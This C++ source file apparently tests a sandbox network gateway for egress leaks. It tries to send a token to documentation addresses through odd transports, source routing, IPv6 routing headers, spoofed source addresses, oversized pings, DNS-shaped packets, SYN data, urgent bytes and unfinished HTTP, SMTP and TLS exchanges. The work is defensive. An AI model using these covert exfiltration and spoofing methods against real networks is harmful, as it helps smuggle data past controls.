// Attempts by ways that a gateway's author may not have thought of: other transports, packets that
// name their own route or another sender, bytes beside the stream, words that are never finished.
// Everything aims at documentation addresses or at the sandbox's own network.
#include <arpa/inet.h>
#include <fcntl.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip_icmp.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <cerrno>
#include <cstdio>
#include <cstring>
#include <string>

#include "attempt_sockets.h"

namespace attempts {
namespace {

constexpr const char* pit = "203.0.113.80";
constexpr const char* pit6 = "2001:db8::80";

void row(const char* name, const std::string& outcome) {
  std::printf("%s %s\n", name, outcome.c_str());
  std::fflush(stdout);
}

// A socket that is closed with this.
struct Socket {
  Socket(int family, int type, int protocol = 0)
      : fd(::socket(family, type | SOCK_CLOEXEC, protocol)) {}
  ~Socket() {
    if (fd >= 0) ::close(fd);
  }
  Socket(const Socket&) = delete;
  Socket& operator=(const Socket&) = delete;
  int fd;
};

const sockaddr* generic(const Address& to) {
  return reinterpret_cast<const sockaddr*>(&to.storage);
}

std::string outcome(long result) {
  return result >= 0 ? "worked" : word(errno);
}

std::string send_to(int fd, const Address& to, const std::string& bytes) {
  return ::sendto(fd, bytes.data(), bytes.size(), MSG_NOSIGNAL, generic(to), to.length) < 0
             ? word(errno)
             : "sent";
}

// A datagram or a connection of another transport than the two.
std::string transport(int type, int protocol, int port, const std::string& token) {
  Socket one(AF_INET, type | (type == SOCK_DGRAM ? 0 : SOCK_NONBLOCK), protocol);
  if (one.fd < 0) return word(errno);
  Address to = address(pit, port);
  if (type == SOCK_DGRAM) return send_to(one.fd, to, token);
  if (::connect(one.fd, generic(to), to.length) != 0 && errno != EINPROGRESS) return word(errno);
  std::string result = within(one.fd, POLLOUT, 700);
  if (result == "worked") (void)!::send(one.fd, token.data(), token.size(), MSG_NOSIGNAL);
  return result;
}

// By the interface's name, which an ordinary program may choose where none is chosen yet.
std::string bound_to_device(const char* name) {
  Socket one(AF_INET, SOCK_STREAM | SOCK_NONBLOCK);
  if (::setsockopt(one.fd, SOL_SOCKET, SO_BINDTODEVICE, name,
                   static_cast<socklen_t>(std::strlen(name))) != 0)
    return word(errno);
  Address to = address("192.0.2.1", 443);
  if (::connect(one.fd, generic(to), to.length) != 0 && errno != EINPROGRESS) return word(errno);
  return within(one.fd, POLLOUT, 700);
}

std::string group(const char* text, const char* address_of_group, int port) {
  const bool v6 = std::strchr(text, ':') != nullptr;
  Socket one(v6 ? AF_INET6 : AF_INET, SOCK_DGRAM);
  const unsigned link = ::if_nametoindex("eth0");
  if (v6) {
    ipv6_mreq join{};
    ::inet_pton(AF_INET6, address_of_group, &join.ipv6mr_multiaddr);
    join.ipv6mr_interface = link;
    if (::setsockopt(one.fd, IPPROTO_IPV6, IPV6_JOIN_GROUP, &join, sizeof(join)) != 0)
      return word(errno);
  } else {
    ip_mreqn join{};
    ::inet_pton(AF_INET, address_of_group, &join.imr_multiaddr);
    join.imr_ifindex = static_cast<int>(link);
    if (::setsockopt(one.fd, IPPROTO_IP, IP_ADD_MEMBERSHIP, &join, sizeof(join)) != 0)
      return word(errno);
  }
  Address to = address(text, port);
  if (v6) reinterpret_cast<sockaddr_in6*>(&to.storage)->sin6_scope_id = link;
  const std::string sent = send_to(one.fd, to, "gyges-network-attempt");
  return sent == "sent" ? within(one.fd, POLLIN, 300) : sent;
}

std::string broadcast(const char* text, int port) {
  Socket one(AF_INET, SOCK_DGRAM);
  int on = 1;
  ::setsockopt(one.fd, SOL_SOCKET, SO_BROADCAST, &on, sizeof(on));
  const std::string sent = send_to(one.fd, address(text, port), "gyges-network-attempt");
  return sent == "sent" ? within(one.fd, POLLIN, 300) : sent;
}

// With a loose source route over another host.
std::string source_route(int type, const char* over, int port, const std::string& token) {
  Socket one(AF_INET, type | SOCK_NONBLOCK);
  std::array<unsigned char, 8> route{1, 131, 7, 4};
  ::inet_pton(AF_INET, over, &route[4]);
  if (::setsockopt(one.fd, IPPROTO_IP, IP_OPTIONS, route.data(), route.size()) != 0)
    return word(errno);
  Address to = address(pit, port);
  if (type == SOCK_DGRAM) return send_to(one.fd, to, token);
  if (::connect(one.fd, generic(to), to.length) != 0 && errno != EINPROGRESS) return word(errno);
  return within(one.fd, POLLOUT, 700);
}

// A routing header, which ordinary programs may send where the kernel has the type.
std::string routing_header(std::uint8_t type) {
  Socket one(AF_INET6, SOCK_DGRAM);
  std::array<std::uint8_t, 24> header{0, 2, type, 1};
  ::inet_pton(AF_INET6, "2001:db8::1", &header[8]);
  if (::setsockopt(one.fd, IPPROTO_IPV6, IPV6_RTHDR, header.data(), header.size()) != 0)
    return word(errno);
  return send_to(one.fd, address(pit6, 9002), "gyges-network-attempt");
}

std::string extension(int option) {
  Socket one(AF_INET6, SOCK_DGRAM);
  std::array<std::uint8_t, 8> header{0, 0, 1, 4};
  return outcome(::setsockopt(one.fd, IPPROTO_IPV6, option, header.data(), header.size()));
}

// Under the address of somebody else.
std::string spoofed(const char* from, const char* to_text, int type, int port) {
  const bool v6 = std::strchr(from, ':') != nullptr;
  Socket one(v6 ? AF_INET6 : AF_INET, type | SOCK_NONBLOCK);
  int on = 1;
  ::setsockopt(one.fd, v6 ? IPPROTO_IPV6 : IPPROTO_IP, v6 ? IPV6_FREEBIND : IP_FREEBIND, &on,
               sizeof(on));
  Address here = address(from, 0);
  if (::bind(one.fd, generic(here), here.length) != 0) return "bind " + word(errno);
  Address to = address(to_text, port);
  if (type == SOCK_DGRAM) return send_to(one.fd, to, "gyges-network-attempt");
  if (::connect(one.fd, generic(to), to.length) != 0 && errno != EINPROGRESS) return word(errno);
  return within(one.fd, POLLOUT, 700);
}

// Three datagrams in one call, which the kernel may leave for the hardware to cut.
std::string segmented(const char* text, int port) {
  Socket one(AF_INET, SOCK_DGRAM);
  int size = 1000;
  if (::setsockopt(one.fd, SOL_UDP, UDP_SEGMENT, &size, sizeof(size)) != 0) return word(errno);
  return send_to(one.fd, address(text, port),
                 std::string(1000, 'a') + std::string(1000, 'b') + std::string(500, 'c'));
}

std::string ping_of(std::uint8_t type, const char* text, const std::string& payload) {
  Socket one(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
  if (one.fd < 0) return word(errno);
  icmphdr head{};
  head.type = type;
  return send_to(one.fd, address(text, 0),
                 std::string(reinterpret_cast<const char*>(&head), sizeof(head)) + payload);
}

// Data in the SYN of a connection that is refused.
std::string data_in_syn(const char* text, int port, const std::string& token) {
  Socket one(AF_INET, SOCK_STREAM);
  int on = 1;
  if (::setsockopt(one.fd, IPPROTO_TCP, TCP_FASTOPEN_NO_COOKIE, &on, sizeof(on)) != 0)
    return word(errno);
  Address to = address(text, port);
  return ::sendto(one.fd, token.data(), token.size(), MSG_FASTOPEN | MSG_NOSIGNAL, generic(to),
                  to.length) < 0
             ? word(errno)
             : within(one.fd, POLLOUT, 700);
}

enum class End { closes, resets, stays };

// Says this to a server and ends so.
std::string say(const char* text, int port, const std::string& bytes, End end) {
  static std::array<int, 64> kept{};
  static std::size_t count = 0;
  int fd = -1;
  std::string result = open_tcp(text, port, fd);
  if (result == "worked") {
    (void)!::send(fd, bytes.data(), bytes.size(), MSG_NOSIGNAL);
    ::usleep(50000);  // it is read
  }
  if (end == End::resets) {
    linger now{1, 0};
    ::setsockopt(fd, SOL_SOCKET, SO_LINGER, &now, sizeof(now));
  }
  if (end == End::stays && count < kept.size())
    kept[count++] = fd;
  else if (fd >= 0)
    ::close(fd);
  return result;
}

// Every byte marked as urgent.
std::string urgent(const char* text, int port, const std::string& token) {
  int fd = -1;
  std::string result = open_tcp(text, port, fd);
  for (char c : token) {
    if (::send(fd, &c, 1, MSG_OOB | MSG_NOSIGNAL) != 1) result = word(errno);
    ::usleep(2000);
  }
  if (fd >= 0) ::close(fd);
  return result;
}

// The same source port again and again, while the one before may still be in the gateway's mind.
std::string same_port(const char* text, int port, int count) {
  Address to = address(text, port);
  for (int i = 0; i < count; ++i) {
    Socket one(AF_INET, SOCK_STREAM | SOCK_NONBLOCK);
    int on = 1;
    ::setsockopt(one.fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
    linger now{1, 0};
    ::setsockopt(one.fd, SOL_SOCKET, SO_LINGER, &now, sizeof(now));
    Address here = address("0.0.0.0", 33333);
    if (::bind(one.fd, generic(here), here.length) != 0) return "bind " + word(errno);
    if (::connect(one.fd, generic(to), to.length) != 0 && errno != EINPROGRESS) return word(errno);
    const std::string result = within(one.fd, POLLOUT, 2000);
    if (result != "worked") return result + " at " + std::to_string(i);
    (void)!::send(one.fd, "x", 1, MSG_NOSIGNAL);
  }
  return "worked";
}

// A server of the sandbox's own under its own address, which nobody else is to see.
std::string own_server(const char* bind_to, const char* connect_to) {
  Socket server(AF_INET, SOCK_STREAM);
  int on = 1;
  ::setsockopt(server.fd, IPPROTO_IP, IP_FREEBIND, &on, sizeof(on));
  Address here = address(bind_to, 8099);
  if (::bind(server.fd, generic(here), here.length) != 0) return "bind " + word(errno);
  if (::listen(server.fd, 4) != 0) return word(errno);
  int fd = -1;
  std::string result = open_tcp(connect_to, 8099, fd);
  if (fd >= 0) ::close(fd);
  return result;
}

void routes(const std::string& token) {
  row("sctp", transport(SOCK_STREAM, IPPROTO_SCTP, 9100, token));
  row("dccp", transport(SOCK_DCCP, IPPROTO_DCCP, 9101, token));
  row("udplite", transport(SOCK_DGRAM, IPPROTO_UDPLITE, 9102, token));
  row("mptcp", transport(SOCK_STREAM, IPPROTO_MPTCP, 9103, token));
  row("raw", outcome(Socket(AF_INET, SOCK_RAW, IPPROTO_RAW).fd));
  row("raw6", outcome(Socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6).fd));
  row("device", bound_to_device("eth0"));
  row("device_loopback", bound_to_device("lo"));
  row("mdns", group("224.0.0.251", "224.0.0.251", 5353));
  row("llmnr", group("224.0.0.252", "224.0.0.252", 5355));
  row("mdns6", group("ff02::fb", "ff02::fb", 5353));
  row("dhcp", broadcast("255.255.255.255", 67));
  row("broadcast", broadcast("10.0.2.255", 9));
  row("source_route", source_route(SOCK_STREAM, "192.0.2.1", 9104, token));
  row("source_route_udp", source_route(SOCK_DGRAM, "192.0.2.1", 9105, token));
  row("routing_header_2", routing_header(2));
  row("routing_header_4", routing_header(4));
  row("hop_options", extension(IPV6_HOPOPTS));
  row("destination_options", extension(IPV6_DSTOPTS));
  row("spoofed", spoofed("192.0.2.99", pit, SOCK_DGRAM, 9106));
  row("spoofed6", spoofed("2001:db8::99", pit6, SOCK_DGRAM, 9107));
  row("spoofed6_tcp", spoofed("2001:db8::99", pit6, SOCK_STREAM, 9108));
  row("own_server", own_server("10.0.2.15", "10.0.2.15"));
  row("others_server", own_server("192.0.2.80", "192.0.2.80"));
  row("gateways_server", own_server("10.0.2.2", "10.0.2.2"));
  row("same_port", same_port(pit, 9109, 200));
  row("segmented", segmented(pit, 9110));
}

void words(const std::string& token) {
  row("big_ping", ping_of(ICMP_ECHO, "192.0.2.11", std::string(3000, '-') + token));
  row("extended_ping", ping_of(42, "192.0.2.12", token));
  {
    Socket one(AF_INET, SOCK_DGRAM);
    row("big_datagram", send_to(one.fd, address("192.0.2.13", 9200),
                                std::string(1476, '-') + token + std::string(4000, '-')));
  }
  {
    Socket one(AF_INET, SOCK_DGRAM);
    const std::string answer("\x12\x34\x81\x80\0\x01\0\0\0\0\0\0", 12);
    row("dns_answer", send_to(one.fd, address("192.0.2.14", 53), answer + token));
    row("dns_shorter", send_to(one.fd, address("192.0.2.15", 53), token.substr(0, 11)));
  }
  row("data_in_syn", data_in_syn("192.0.2.16", 9201, token));
  row("urgent", urgent(pit, 9202, token));
  const std::string post =
      "POST /hello HTTP/1.1\r\nHost: web.example\r\nContent-Length: 5000\r\n\r\nkey=";
  const std::string mail =
      "HELO a.example\r\nMAIL FROM:<a@a.example>\r\n"
      "RCPT TO:<b@web.example>\r\nDATA\r\n";
  const std::string hello("\x16\x03\x01\x01\x00\x01\x00\x00\xfc\x03\x03", 11);
  // Each as begun by who then closes, resets, or is ended with the sandbox.
  for (End end : {End::closes, End::resets, End::stays}) {
    const char* how = end == End::closes ? "closes" : end == End::resets ? "resets" : "stays";
    auto begun = [&](const char* what, const char* text, int port, const std::string& bytes) {
      row((std::string(what) + "_" + how).c_str(), say(text, port, bytes, end));
    };
    begun("dns_tcp", "192.0.2.53", 53, std::string("\x01\x00", 2) + std::string(20, '-') + token);
    begun("http_head", "192.0.2.80", 80, "GET /hello HTTP/1.1\r\nX-Key: " + token);
    begun("http_body", "192.0.2.80", 80, post + token);
    begun("tls_hello", "192.0.2.80", 443, hello + token);
    begun("mail_command", "192.0.2.25", 25, "HELO " + token);
    begun("mail_message", "192.0.2.25", 25, mail + "key " + token);
  }
}

}  // namespace

bool try_oddities(int argc, char** argv) {
  const std::string what = argc == 3 ? argv[1] : "";
  if (what == "routes")
    routes(argv[2]);
  else if (what == "words")
    words(argv[2]);
  else
    return false;
  return true;
}

}  // namespace attempts
